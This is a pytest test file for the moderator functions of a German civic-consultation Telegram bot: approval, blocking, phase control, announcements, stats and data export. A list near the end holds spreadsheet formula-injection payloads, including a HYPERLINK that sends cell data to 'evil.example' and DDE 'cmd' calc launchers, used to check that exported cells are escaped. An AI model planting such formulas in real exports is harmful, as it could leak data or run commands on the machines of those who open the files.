"""Moderators steer the consultation from Telegram: through the emulator, as people would."""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import AsyncIterator
from typing import Any

import pytest

from bot.clock import system_clock
from bot.emulator import BotApiEmulator
from bot.export import snapshot, to_csv
from tests.harness import Citizen, Harness, RunningBot, make_settings

MOD_A, MOD_B = 900_001, 8_000_000_777
MODERATOR_COMMANDS = [
    "/queue",
    "/stats",
    "/export",
    "/phase close",
    "/announce Hallo",
    "/block 1",
    "/unblock 1",
    "/audit",
]


async def start_harness(emulator: BotApiEmulator, database_url: str, **overrides: Any) -> Harness:
    emulator.add_channel("@ruhr_dialog")
    for moderator in (MOD_A, MOD_B):  # moderators have opened the bot once
        emulator.user(moderator, first_name="Moderation")
    settings = make_settings(
        emulator.base_url, database_url, moderators=frozenset({MOD_A, MOD_B}), **overrides
    )
    bot = RunningBot(settings)
    await bot.start()
    return Harness(emulator, bot)


@pytest.fixture
async def mod(emulator: BotApiEmulator, database_url: str) -> AsyncIterator[Harness]:
    harness = await start_harness(emulator, database_url)
    try:
        yield harness
    finally:
        await harness.bot.stop()


async def export(h: Harness) -> dict[str, Any]:
    assert h.bot.app is not None
    return await snapshot(h.settings, h.bot.app.database, system_clock())


def votes_of(data: dict[str, Any], topic_id: str) -> int:
    return next(t["votes"] for t in data["topics"] if t["id"] == topic_id)


def card_for(moderator: Citizen, impulse_id: int) -> Any:
    return next(
        m for m in reversed(moderator.user.messages) if f"Impuls #{impulse_id}</b>" in m.raw_text
    )


IDEA = "Ein Sozialticket für 9 Euro im ganzen Verkehrsverbund <Rhein-Ruhr> & darüber hinaus"


async def test_a_citizen_never_reaches_a_moderator_command(
    mod: Harness, caplog: pytest.LogCaptureFixture
) -> None:
    citizen = mod.citizen(1234)
    await citizen.send("/hilfe")
    help_text = citizen.last_text
    with caplog.at_level(logging.WARNING, logger="bot.middlewares"):
        for command in MODERATOR_COMMANDS:
            await citizen.send(command)
            assert citizen.last_text == help_text, command
    refused = [r for r in caplog.records if "moderator-only" in r.getMessage()]
    assert len(refused) == len(MODERATOR_COMMANDS)
    assert all("1234" not in r.getMessage() for r in refused)  # logged by pseudonym only
    assert mod.emulator.chat_messages("@ruhr_dialog") == []


async def test_review_card_approval_and_the_author_is_told(mod: Harness) -> None:
    author = mod.citizen(5001)
    await author.take_part(["Mobilität & ÖPNV"], impulse=IDEA, source="flyer_essen")
    moderator_a, moderator_b = mod.citizen(MOD_A), mod.citizen(MOD_B)
    card = moderator_a.user.last_message
    assert "Impuls #1" in card.text and IDEA in card.text
    assert "Mobilität & ÖPNV" in card.text and "flyer_essen" in card.text
    assert "&lt;Rhein-Ruhr&gt; &amp;" in card.raw_text
    assert card.button_texts[:2] == ["✅ Freigeben", "❌ Ablehnen"]
    assert "Impuls #1" in moderator_b.user.last_message.text

    await moderator_a.press("Freigeben", message_id=card.message_id)
    assert "veröffentlicht" in author.last_text and "#1" in author.last_text
    # The other moderator's copy now says who decided; no approve button is left on it.
    other = card_for(moderator_b, 1)
    assert f"Entschieden von: {MOD_A}" in other.text
    assert "✅ Freigeben" not in other.button_texts
    assert [i["status"] for i in (await export(mod))["impulses"]] == ["approved"]


async def test_two_moderators_deciding_at_once_the_first_wins(mod: Harness) -> None:
    author = mod.citizen(5002)
    await author.take_part(["Sport & Events"], impulse="Mehr Sportplätze in Herne öffnen")
    moderator_a, moderator_b = mod.citizen(MOD_A), mod.citizen(MOD_B)
    card_a, card_b = card_for(moderator_a, 1), card_for(moderator_b, 1)
    await moderator_b.press("Ablehnen", message_id=card_b.message_id)
    # Both decisions are in Telegram's queue before the bot handles either.
    moderator_a.user.press("Freigeben", message_id=card_a.message_id)
    moderator_b.user.press("Werbung oder Spam", message_id=card_b.message_id)
    await mod.settle()
    [impulse] = (await export(mod))["impulses"]
    winner, loser = (
        (moderator_a, moderator_b)
        if impulse["status"] == "approved"
        else (moderator_b, moderator_a)
    )
    assert impulse["status"] in ("approved", "rejected")
    assert "Schon entschieden" in loser.user.callback_answers[-1].text
    assert str(winner.user.id) in loser.user.callback_answers[-1].text
    assert not (winner.user.callback_answers[-1].text or "").startswith("Schon")
    told = [m.text for m in author.user.messages if "(#1)" in m.text]
    assert len(told) == 1  # the author hears one decision, the one that counts
    # The loser's copy of the card shows the final state and who decided.
    assert f"Entschieden von: {winner.user.id}" in card_for(loser, 1).text


async def test_rejection_with_reason_and_official_answer(mod: Harness) -> None:
    author = mod.citizen(5003)
    await author.take_part(
        ["Heimat Ruhr: Wohnen & Leben"], impulse="Meine Nachbarin Frau X ist schuld"
    )
    moderator = mod.citizen(MOD_A)
    card = card_for(moderator, 1)
    await moderator.press("Ablehnen", message_id=card.message_id)
    assert "enthält persönliche Daten" in card_for(moderator, 1).button_texts
    await moderator.press("enthält persönliche Daten", message_id=card.message_id)
    assert "nicht veröffentlicht" in author.last_text
    assert "enthält persönliche Daten" in author.last_text

    await moderator.press("Antworten", message_id=card.message_id)
    await moderator.press("An das Themenforum weitergeleitet")
    await moderator.send("Wir haben das Anliegen ohne Namen an das Forum Heimat.Ruhr gegeben.")
    assert "an die Person geschickt" in moderator.last_text
    answer = author.last_text
    assert "Antwort auf Ihre Idee (#1)" in answer
    assert "An das Themenforum weitergeleitet" in answer
    assert "ohne Namen" in answer
    assert "weitergeleitet" in card_for(moderator, 1).text

    await moderator.send("/audit")
    log = moderator.last_text
    assert "reject" in log and "answer" in log and "impulse:1" in log


async def test_blocking_removes_votes_and_unblocking_restores_them(mod: Harness) -> None:
    author = mod.citizen(5004)
    await author.take_part(["Kunst & Kreativität"], impulse="Ateliers in leeren Ladenlokalen")
    other = mod.citizen(5005)
    await other.take_part(["Kunst & Kreativität"])
    assert votes_of(await export(mod), "kunst") == 2
    moderator = mod.citizen(MOD_A)

    await moderator.send("/block #1")
    assert "gesperrt" in moderator.last_text
    data = await export(mod)
    assert (data["participants"], votes_of(data, "kunst")) == (1, 1)
    await author.send("/meinvotum")
    assert "gesperrt" in author.last_text

    await moderator.send("/unblock 1")
    data = await export(mod)
    assert (data["participants"], votes_of(data, "kunst")) == (2, 2)
    await author.send("/meinvotum")
    assert "Ihr Votum" in author.last_text

    await moderator.send("/block kaputt")
    assert "/block 42" in moderator.last_text


async def test_closed_phase_refuses_changes(mod: Harness) -> None:
    citizen = mod.citizen(5006)
    await citizen.take_part(["Grüne Infrastruktur"])
    moderator = mod.citizen(MOD_A)
    await moderator.send("/phase close")
    assert "geschlossen" in moderator.last_text

    await citizen.send("/meinvotum")
    assert "abgeschlossen" in citizen.last_text
    assert citizen.buttons() == []
    newcomer = mod.citizen(5007)
    await newcomer.send("/start")
    await newcomer.press("Mitmachen")
    await newcomer.press("Sport & Events")
    await newcomer.press("Weiter")
    await newcomer.press("Überspringen")
    await newcomer.press("Absenden")
    assert "abgeschlossen" in newcomer.user.callback_answers[-1].text
    assert (await export(mod))["participants"] == 1

    await moderator.send("/phase open")
    await newcomer.press("Absenden")
    assert "Danke!" in newcomer.last_text
    await moderator.send("/phase vielleicht")
    assert "/phase open" in moderator.last_text


async def test_announcement_is_previewed_escaped_and_posted_once(mod: Harness) -> None:
    moderator = mod.citizen(MOD_A)
    await moderator.send("/announce Heute 18 Uhr: <b>Ergebnisse</b> & Ausblick")
    assert "Vorschau" in moderator.last_text
    assert mod.emulator.chat_messages("@ruhr_dialog") == []
    await moderator.press("Im Kanal veröffentlichen")
    [post] = mod.emulator.chat_messages("@ruhr_dialog")
    assert post.text == "Heute 18 Uhr: <b>Ergebnisse</b> & Ausblick"
    assert "veröffentlicht" in moderator.last_text


async def test_stats_queue_and_export(mod: Harness) -> None:
    for i, source in enumerate(["flyer_essen", "flyer_essen", None]):
        c = mod.citizen(6000 + i)
        await c.take_part(
            ["Mobilität & ÖPNV", "Lehrkräfte gewinnen"],
            impulse=f"Idee Nummer {i} mit Text",
            source=source,
        )
    moderator = mod.citizen(MOD_A)
    await moderator.send("/stats")
    stats = moderator.last_text
    assert "Teilnehmende: 3 (heute 3, letzte 7 Tage 3)" in stats
    assert " 1 Mobilität & ÖPNV" in stats and "100 %" in stats
    assert "flyer_essen: 2" in stats
    assert "wartet auf Prüfung: 3" in stats

    await moderator.send("/queue")
    assert "3 Impulse warten" in moderator.user.messages[-2].text
    assert "Impuls #1" in moderator.last_text

    await moderator.send("/export")
    documents = [m for m in moderator.user.messages if m.document is not None]
    assert {d.filename.split("-")[0] for d in documents} == {
        "dialogbot",
        "stimmen",
        "impulse",
        "themen",
    }
    full = json.loads(next(d for d in documents if d.filename.endswith(".json")).document)
    assert len(full["votes"]) == 6 and full["participants"] == 3
    assert [entry["action"] for entry in full["audit"]] == ["export"]
    raw = b"".join(d.document for d in documents).decode()
    for telegram_id in ("6000", "6001", "6002"):
        assert f'"{telegram_id}"' not in raw and f",{telegram_id}," not in raw


async def test_post_moderation_publishes_at_once_and_can_take_down(
    emulator: BotApiEmulator, database_url: str
) -> None:
    mod = await start_harness(emulator, database_url, moderation_mode="post")
    try:
        author = mod.citizen(5008)
        await author.take_part(["Sport & Events"], impulse="Bolzplätze nachts beleuchten lassen")
        assert (await export(mod))["impulses"][0]["status"] == "approved"
        moderator = mod.citizen(MOD_A)
        card = card_for(moderator, 1)
        assert "⬇️ Zurückziehen" in card.button_texts
        await moderator.press("Zurückziehen", message_id=card.message_id)
        assert (await export(mod))["impulses"][0]["status"] == "removed"
        assert "zurückgezogen" in author.last_text
    finally:
        await mod.bot.stop()


async def test_review_cards_go_to_the_moderators_group_when_configured(
    emulator: BotApiEmulator, database_url: str
) -> None:
    group = emulator.add_group("Moderation Ruhr-Dialog")
    mod = await start_harness(emulator, database_url, moderators_chat=group)
    try:
        await mod.citizen(5009).take_part(["Sport & Events"], impulse="Freibäder länger öffnen")
        [card] = emulator.chat_messages(group)
        assert "Impuls #1" in card.text and "Freibäder länger öffnen" in card.text
        assert "✅ Freigeben" in card.button_texts
        assert not any("Impuls #1" in m.text for m in mod.citizen(MOD_A).user.messages)
        # The bot stays in its moderators' group even though it leaves every other group.
        emulator.user(MOD_A).send_text_in_group(group, "Guten Morgen")
        await mod.settle()
        assert not emulator.calls_to("leaveChat")
    finally:
        await mod.bot.stop()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Details")',
    "=cmd|' /C calc'!A0 und mehr Text",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1 ist eine gute Idee für alle",
    "-2+3 klingt nach einer Formel",
    "\t=1+1 mit Tabulator davor",
    "  =1+1 mit Leerzeichen davor",
]


async def test_export_cells_never_start_a_formula_and_name_no_moderator_id(mod: Harness) -> None:
    for i, text in enumerate(FORMULAS):
        await mod.citizen(6100 + i).take_part(["Sport & Events"], impulse=text, source="-x_src")
    moderator = mod.citizen(MOD_A)
    await moderator.send("/export")
    documents = {
        m.filename.split("-")[0]: m.document for m in moderator.user.messages if m.document
    }
    rows = list(csv.DictReader(io.StringIO(documents["impulse"].decode())))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for value in row.values():
            assert value[:1] not in "=+-@\t\r", value  # a spreadsheet shows text, not a formula
    assert sorted(row["text"] for row in rows) == sorted("'" + text for text in FORMULAS)
    assert {row["source"] for row in rows} == {"'-x_src"}
    # `dialogbot export` writes the same cells.
    data = await export(mod)
    assert to_csv(data, "impulses") == documents["impulse"].decode()
    full = json.loads(documents["dialogbot"])
    assert full["audit"] and all(e["moderator"].startswith("mod-") for e in full["audit"])
    assert str(MOD_A) not in documents["dialogbot"].decode()


async def test_blocked_people_can_still_see_and_erase_their_data(mod: Harness) -> None:
    author = mod.citizen(5040)
    await author.take_part(["Kunst & Kreativität"], impulse="Ateliers in leeren Ladenlokalen")
    moderator = mod.citizen(MOD_A)
    await moderator.send("/block 1")
    await author.send("/meinvotum")
    assert "gesperrt" in author.last_text  # the block holds for everything else
    await author.send("/meinedaten")
    document = author.user.last_message.document
    assert document is not None and b"Ateliers" in document
    await author.send("/loeschen")
    await author.press("Ja, alles löschen")
    assert "gelöscht" in author.last_text
    data = await export(mod)
    assert data["participants"] == 0 and data["impulses"] == []


async def test_stats_export_and_audit_answer_only_in_private(
    emulator: BotApiEmulator, database_url: str
) -> None:
    group = emulator.add_group("Moderation Ruhr-Dialog")
    mod = await start_harness(emulator, database_url, moderators_chat=group)
    try:
        await mod.citizen(5041).take_part(["Sport & Events"], impulse="Freibäder länger öffnen")
        before = len(emulator.chat_messages(group))
        for command in ("/stats", "/export", "/audit"):
            emulator.user(MOD_A).send_text_in_group(group, command)
        await mod.settle()
        assert len(emulator.chat_messages(group)) == before  # nothing in the group
        moderator = mod.citizen(MOD_A)
        await moderator.send("/stats")
        assert "Teilnehmende: 1" in moderator.last_text  # privately, as before
    finally:
        await mod.bot.stop()
